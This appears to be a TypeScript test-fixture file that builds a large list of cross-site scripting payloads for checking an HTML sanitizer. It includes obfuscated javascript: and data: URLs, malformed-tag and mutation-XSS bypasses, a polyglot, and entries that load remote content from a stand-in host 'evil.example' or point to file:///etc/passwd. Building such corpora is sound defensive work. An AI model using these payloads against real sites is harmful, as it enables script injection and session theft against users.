import { SCRIPT_PAYLOADS } from "./script-payloads";

const words = (text: string) => text.trim().split(/\s+/);
const OWN = "/api/yxd-system/sys/common/preview/message/2026/9f2c.png";

/** Every element of HTML, SVG and MathML, also those that are no longer any, and some that never were. */
const ELEMENTS = words(`
  a abbr acronym address animate animatemotion animatetransform annotation-xml applet area article aside audio b base
  basefont bdi bdo bgsound big blink blockquote body br button canvas caption center circle code col colgroup command
  content customs-page data datalist dd defs del desc details dfn dialog dir discard div dl dt element ellipse em embed
  fencedframe feimage fieldset figcaption figure font footer foreignobject form frame frameset g h1 h2 h3 h4 h5 h6 head
  header hgroup hr html i iframe image img input ins isindex kbd keygen label layer legend li line link listing main map
  mark marker marquee mask math menu menuitem meta meter mglyph mi mn mo ms mtext multicol nav nextid nobr noembed
  noframes noscript object ol optgroup option output p param path pattern picture plaintext portal pre progress q rb rp
  rt ruby s samp script search section select selectlist set shadow slot small source spacer span stop strike strong
  style sub summary sup svg switch symbol table tbody td template text textarea tfoot th thead time title tr track tspan
  tt u ul use var video view wbr x xml xmp xss
`);

/** Addresses that run, load or pretend; each where an address may stand. */
const ADDRESSES: readonly string[] = [
  ...["javascript:alert(1)", "JAVASCRIPT:alert(1)", "jAvAsCrIpT:alert(1)", "javascript://x%0aalert(1)"],
  ...["java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "\u0001javascript:alert(1)"],
  ...[
    "\u0000javascript:alert(1)",
    "java\u0000script:alert(1)",
    " javascript:alert(1)",
    "\u00a0javascript:alert(1)",
  ],
  ...[
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
  ],
  ...[
    "javascript&#x3a;alert(1)",
    "&#106avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
  ],
  ...[
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&Tab;javascript:alert(1)",
    "javascript:&#97;lert(1)",
  ],
  ...["vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "jscript:alert(1)", "behavior:url(x)"],
  ...[
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  ],
  ...["data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "DATA:text/html,x", "data&colon;text/html,x"],
  ...[
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "ftp://evil.example/x",
  ],
  ...[
    "view-source:x",
    "about:blank",
    "ws://evil.example",
    "intent://x",
    "ms-word:ofe|u|x",
    "chrome://settings",
  ],
  ...["//evil.example/x.png", "\\\\evil.example/x.png", "/\\evil.example/x.png", "/\t/evil.example/x.png"],
  ...[
    "https:evil.example",
    "http:/evil.example",
    "https://evil.example/pixel.png",
    "x:x",
    "feed:javascript:alert(1)",
  ],
  ...[`${OWN}#"onerror=alert(1)`, `${OWN}?x=1`, OWN.replace("message", ".."), `${OWN}/../../../../sign-out`],
];

const ATTRIBUTES = words(
  "href src srcset action formaction data poster background cite longdesc ping xlink:href",
);

/** Ways to get an attribute past a parser that reads tags otherwise than a browser does. */
const BROKEN: readonly string[] = [
  ...["<img src=x/onerror=alert(1)>", "<img/onerror=alert(1)//src=x>", "<img src=x onerror\t=\talert(1)>"],
  ...[
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror\f=alert(1)>",
    "<img src=x \u0000onerror=alert(1)>",
  ],
  ...[
    "<img src=x one\u0000rror=alert(1)>",
    "<img src=x onerror=`alert(1)`>",
    "<img src=x onerror=&quot;alert(1)&quot;>",
  ],
  ...[
    `<img src="${OWN}" onerror=alert(1)>`,
    `<img src='${OWN}'onerror=alert(1)>`,
    `<img src=${OWN} onerror=alert(1)>`,
  ],
  ...[
    `<img onerror=alert(1) src="${OWN}">`,
    `<img src="${OWN}"/onload=alert(1)>`,
    `<img alt='"onerror=alert(1) "' src="${OWN}">`,
  ],
  ...[`<img src="${OWN}" alt="\`onerror=alert(1)">`, `<img src="${OWN}" src="javascript:alert(1)">`],
  ...[
    `<img src="javascript:alert(1)" src="${OWN}">`,
    `<IMG SRC="${OWN}" ONERROR="alert(1)">`,
    `<image src="${OWN}" onerror=alert(1)>`,
  ],
  ...[
    "<a href='x'onclick='alert(1)'>x</a>",
    '<a href="x"onmouseover="alert(1)"b="">x</a>',
    "<a/href=x/onclick=alert(1)>x",
  ],
  ...[
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href=x\u00a0onclick=alert(1)>x</a>",
    "<a title='</a><img src=x onerror=alert(1)>'>x",
  ],
  ...[
    "< img src=x onerror=alert(1)>",
    "<\u0000img src=x onerror=alert(1)>",
    "<img\u0000 src=x onerror=alert(1)>",
  ],
  ...[
    "<img \u2028src=x onerror=alert(1)>",
    "＜img src=x onerror=alert(1)＞",
    "\u00adimg src=x onerror=alert(1)>",
  ],
  ...[
    "<p/onclick=alert(1)>x",
    "<p onclick=alert(1)//>x",
    "<p <p onclick=alert(1)>>x</p>",
    "<p =onclick=alert(1)>x</p>",
  ],
  ...[
    '<p "onclick="alert(1)">x</p>',
    "<p ' onclick=alert(1) '>x</p>",
    "<p\u000bonclick=alert(1)>x</p>",
    "</p onclick=alert(1)>",
  ],
  ...[
    "<br onclick=alert(1)/>",
    "<hr/onclick=alert(1)>",
    "<table onclick=alert(1)><td onclick=alert(1)>x",
    "<li onclick=alert(1) value=1>",
  ],
  ...[
    '<th scope="x" onclick=alert(1)>x',
    "<td rowspan=1 colspan='1 onclick=alert(1)'>x",
    '<td colspan="1"onclick="alert(1)">x',
  ],
];

/** Text that is harmless until it is parsed a second time, or in another context than the first. */
const MUTATIONS: readonly string[] = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  "<svg><desc><noscript></svg><img src=x onerror=alert(1)>",
  "<svg><title><style><img src=x onerror=alert(1)></title></svg>",
  "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
  "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
  "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
  "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
  "<select><template></select><img src=x onerror=alert(1)>",
  "<select><option></select><script>alert(1)</script></option>",
  "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
  "<table><style><img src=x onerror=alert(1)></style></table>",
  "<table><tr><td><svg><p><style><a title='</style><img src=x onerror=alert(1)>'></table>",
  "<p><svg><![CDATA[</p><img src=x onerror=alert(1)>]]></svg>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!---><img src=x onerror=alert(1)>-->",
  "<!--!><img src=x onerror=alert(1)>--!>",
  "<!-- --!><img src=x onerror=alert(1)>",
  "<!-a><img src=x onerror=alert(1)>",
  "<!x '><img src=x onerror=alert(1)>'>",
  "<?x '><img src=x onerror=alert(1)>'>",
  "</x '><img src=x onerror=alert(1)>'>",
  "<%<img src=x onerror=alert(1)>%>",
  "<![if IE]><script>alert(1)</script><![endif]>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<comment><img src='</comment><img src=x onerror=alert(1)>'></comment>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "&ltimg src=x onerror=alert(1)&gt",
  "%3Cimg%20src=x%20onerror=alert(1)%3E",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "\u{1F600}<img src=x onerror=alert(1)>",
  "\ud800<img src=x onerror=alert(1)>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<pre>\n\n<img src=x onerror=alert(1)></pre>",
  "<a><p><a onclick=alert(1)>x</a></p></a>",
  "<b><i></b onclick=alert(1)></i>",
  "<ul><li><p><table><li onclick=alert(1)>",
  "<isindex action=javascript:alert(1) type=image>",
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x\"/></svg>",
  "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg>",
  "<svg><handler type=text/javascript ev:event=load>alert(1)</handler></svg>",
  "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
  "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
  "<input type=image src=x onerror=alert(1)>",
  "<a id=x><a id=x name=y href=javascript:alert(1)>x</a>",
  "<img name=getElementById><img name=createElement>",
  "<form name=body><input name=firstChild></form>",
  "<link rel=import href=//evil.example>",
  "<object><param name=movie value=javascript:alert(1)></object>",
  "<details ontoggle=alert(1) open><summary>x</summary></details>",
  "<div style='-moz-binding:url(//evil.example/x.xml#x)'>x</div>",
  "<p style='background:url(\"javascript:alert(1)\")'>x</p>",
  "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  "';alert(String.fromCharCode(88,83,83))//\";--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
];

/** Well-known shapes of what tries to run in somebody's page: by element, by address, and by parsers' quarrels. */
export const XSS_PAYLOADS: readonly string[] = [
  ...SCRIPT_PAYLOADS,
  ...ELEMENTS.flatMap((name) => [
    `<${name} onclick=alert(1) onload=alert(1) onerror=alert(1) style=x>x</${name}>`,
    `<${name}><script>alert(1)</script><img src=x onerror=alert(1)></${name}>`,
  ]),
  ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`]),
  ...ATTRIBUTES.map((name) => `<p ${name}="javascript:alert(1)">x</p>`),
  ...BROKEN,
  ...MUTATIONS,
];
